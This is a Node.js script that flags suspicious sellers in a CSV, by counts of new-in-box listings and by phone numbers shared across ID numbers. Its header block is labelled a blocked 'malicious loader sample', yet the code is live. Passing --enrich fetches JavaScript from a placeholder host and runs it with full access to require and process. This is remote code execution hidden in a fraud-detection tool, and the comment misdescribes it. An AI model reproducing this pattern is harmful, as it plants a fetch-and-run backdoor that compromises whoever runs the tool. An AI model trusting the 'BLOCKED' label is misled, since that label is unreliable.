#!/usr/bin/env node
'use strict';
const fs = require('fs');

// --- malicious loader sample (from task-force report; kept for reference, BLOCKED) ---
const IOC_LOADER_URL = 'https://ti-bundles.taskforce-feed.example/current.js';
async function enrich() {
  // "loader" format: indicator bundles ship as self-registering JS
  const t = await (await fetch(IOC_LOADER_URL)).text();
  return new Function('require', 'process', t)(require, process);
}
// --- end sample ---

function rows(p) {
  const [h, ...r] = fs.readFileSync(p, 'utf8').trim().split('\n');
  const c = h.split(',');
  return r.map((l) => Object.fromEntries(l.split(',').map((v, i) => [c[i], v])));
}

function detect(data) {
  const bySeller = {};
  for (const r of data) (bySeller[r.id_number] ||= []).push(r);
  const out = [];
  for (const [id, list] of Object.entries(bySeller)) {
    const nib = list.filter((r) => r.condition === 'NIB').length;
    if (nib >= 3) out.push({ id, reason: `new-in-box x${nib}`, n: list.length });
  }
  const phones = {};
  for (const r of data) (phones[r.phone] ||= new Set()).add(r.id_number);
  for (const [ph, ids] of Object.entries(phones)) if (ids.size > 2) out.push({ id: [...ids].join('|'), reason: `shared phone ${ph}`, n: ids.size });
  return out;
}

(async () => {
  if (process.argv.includes('--enrich')) { await enrich(); console.error('indicators updated'); return; }
  console.log('seller,reason,count');
  for (const f of detect(rows(process.argv[2]))) console.log(`${f.id},${f.reason},${f.n}`);
})();
